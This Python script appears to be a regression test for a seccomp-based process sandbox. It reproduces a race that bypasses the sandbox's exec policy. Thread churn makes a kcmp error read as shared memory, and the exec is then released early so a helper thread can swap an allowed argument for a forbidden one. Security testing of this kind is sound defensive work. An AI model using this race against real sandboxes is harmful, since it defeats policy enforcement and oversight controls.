# Attack (review 4, fixed): a process that only looks like a memory sharer ends the exec freeze at once.
# kcmp(KCMP_VM) errors other than EPERM count as "shares the caller's memory"
# (freeze.rs tasks_share_memory: `Err(_) => true`), ESRCH included, and shares_memory() asks kcmp
# about each thread listed in /proc/<pid>/task a moment earlier. The exec caller's parent here
# starts and ends threads without pause, so a thread listed is often gone by the time kcmp asks:
# the parent is taken as a `vfork` parent sharing the memory and becomes a freeze "partner". In
# Frozen::wait_exec the first later kcmp that answers "separate memory" reads as "the memory is no
# longer shared, the exec has copied its arguments" (vm_split), and the caller's stopped thread is
# let go before the kernel copies argv (after a large environment). That thread then rewrites
# argv[1] of an allowed `echo hello` to "forbidden". Mode "quiet" is the control: no thread churn.
# irongate: {"args": ["--profile", "trusted", "--policy", "{ROOT}/integration/policies/bypass_trusted.json"], "exit": 0, "timeout": 240, "stdout": ["forbidden_printed=0 "]}
# no-event: {"decision": "allow", "action": {"type": "process", "argv": ["echo", "forbidden"]}}
import ctypes, os, sys, threading, time, select, resource
sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "lib"))
from child_output import output_until  # noqa: E402
libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
libc.syscall.restype = ctypes.c_long
libc.clone.restype = ctypes.c_int
libc.clone.argtypes = [ctypes.c_void_p, ctypes.c_void_p, ctypes.c_int, ctypes.c_void_p,
                       ctypes.c_void_p, ctypes.c_void_p, ctypes.c_void_p]
MAP_PRIVATE, MAP_ANON, MAP_FIXED_NOREPLACE = 0x02, 0x20, 0x100000
B = 0x7e0000000000
ENV_COPIES = int(os.environ.get("R4_ENV", "300000"))
MODE = sys.argv[1] if len(sys.argv) > 1 else "churn"
ATTEMPTS = int(sys.argv[2]) if len(sys.argv) > 2 else 8
# a thread that exits at once: exit(0)
EXIT_CODE = b"\xb8\x3c\x00\x00\x00\x31\xff\x0f\x05"
THREAD_FLAGS = 0x100 | 0x200 | 0x400 | 0x800 | 0x10000 | 0x40000  # VM FS FILES SIGHAND THREAD SYSVSEM
stop_churn = False


def churn():
    code = libc.mmap(None, 4096, 7, MAP_PRIVATE | MAP_ANON, -1, 0)
    ctypes.memmove(code, EXIT_CODE, len(EXIT_CODE))
    stack = libc.mmap(None, 65536, 3, MAP_PRIVATE | MAP_ANON, -1, 0)
    while not stop_churn:
        for _ in range(100):
            libc.clone(code, stack + 65536 - 256, THREAD_FLAGS, None, None, None, None)


if MODE == "churn":
    for _ in range(2):
        threading.Thread(target=churn, daemon=True).start()
    time.sleep(0.2)

def attempt():
    r_out, w_out = os.pipe()
    pid = os.fork()
    if pid == 0:
        soft, hard = resource.getrlimit(resource.RLIMIT_STACK)
        want = 64 << 20
        if hard == resource.RLIM_INFINITY or hard >= want:
            resource.setrlimit(resource.RLIMIT_STACK, (want, hard))
        os.dup2(w_out, 1); os.dup2(w_out, 2)
        size = 0x20000 + 8 * (ENV_COPIES + 1)
        if libc.mmap(B, size, 3, MAP_PRIVATE | MAP_ANON | MAP_FIXED_NOREPLACE, -1, 0) != B:
            os.write(1, b"MMAP-FAILED\n"); os._exit(1)
        ctypes.memmove(B + 0x1000, b"hello\0\0\0\0\0", 10)
        ctypes.memmove(B + 0x1100, b"echo\0", 5)
        ctypes.memmove(B + 0x1200, b"/usr/bin/echo\0", 14)
        argv = (ctypes.c_uint64 * 3).from_address(B + 0x2000)
        argv[0], argv[1], argv[2] = B + 0x1100, B + 0x1000, 0
        big = B + 0x10000
        ctypes.memmove(big, b"A=1\0", 4)
        envp = (ctypes.c_uint64 * (ENV_COPIES + 1)).from_address(B + 0x20000)
        envp[:ENV_COPIES] = [big] * ENV_COPIES
        envp[ENV_COPIES] = 0
        tid = threading.get_native_id()
        fd = os.open("/proc/self/task/%d/stat" % tid, os.O_RDONLY)
        ready = threading.Event()
        def rewriter():
            ready.set()
            # The caller sleeps in its seccomp wait while its exec is judged (reading a large
            # environment takes the supervisor a while); running again means it was continued.
            waiting_since = None
            deadline = time.monotonic() + 10
            while time.monotonic() < deadline:
                s = os.pread(fd, 512, 0)
                st = s[s.rindex(b")") + 2:s.rindex(b")") + 3]
                now = time.monotonic()
                if st in (b"S", b"D"):
                    if waiting_since is None:
                        waiting_since = now
                elif waiting_since is not None and now - waiting_since < 0.05:
                    waiting_since = None
                elif waiting_since is not None:
                    ctypes.memmove(B + 0x1000, b"forbidden\0", 10)
                    return
        threading.Thread(target=rewriter, daemon=True).start()
        ready.wait()
        libc.syscall(59, ctypes.c_uint64(B + 0x1200), ctypes.c_uint64(B + 0x2000), ctypes.c_uint64(B + 0x20000))
        os.write(1, b"EXECVE-FAILED errno=%d\n" % ctypes.get_errno())
        os._exit(1)
    os.close(w_out)
    return output_until(r_out, pid, 4)

counts = {"forbidden": 0, "hello": 0, "failed": 0, "other": 0}
t0 = time.time()
for _ in range(ATTEMPTS):
    out = attempt()
    if b"forbidden" in out: counts["forbidden"] += 1
    elif b"hello" in out: counts["hello"] += 1
    elif b"EXECVE-FAILED" in out: counts["failed"] += 1
    else: counts["other"] += 1
    if time.time() - t0 > 150: break
stop_churn = True
print("mode=%s attempts=%d forbidden_printed=%d hello=%d execve_failed=%d other=%d secs=%.1f" % (
    MODE, sum(counts.values()), counts["forbidden"], counts["hello"], counts["failed"],
    counts["other"], time.time() - t0), flush=True)
